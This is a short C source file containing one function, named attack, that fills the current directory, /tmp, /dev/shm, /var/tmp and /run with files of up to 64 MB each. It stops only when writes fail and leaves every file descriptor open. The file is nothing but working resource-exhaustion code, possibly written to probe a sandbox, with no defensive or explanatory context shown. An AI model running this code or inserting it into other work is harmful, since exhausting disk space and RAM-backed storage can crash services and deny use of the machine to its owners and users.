#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>
static char block[1 << 20];
int attack(int n) {
	int total = 0;
	const char* folders[] = {".", "/tmp", "/dev/shm", "/var/tmp", "/run"};
	for (int f = 0; f < 5; f++) {
		int room = 1;
		for (int number = 0; number < 40 && room; number++) {
			char path[100];
			snprintf(path, sizeof path, "%s/fill-%d", folders[f], number);
			const int file = open(path, O_CREAT | O_WRONLY, 0600);
			room = file >= 0;
			for (int i = 0; i < 64 && room; i++) {
				room = write(file, block, sizeof block) == sizeof block;
				total += room;
			}
		}
	}
	return total;
}
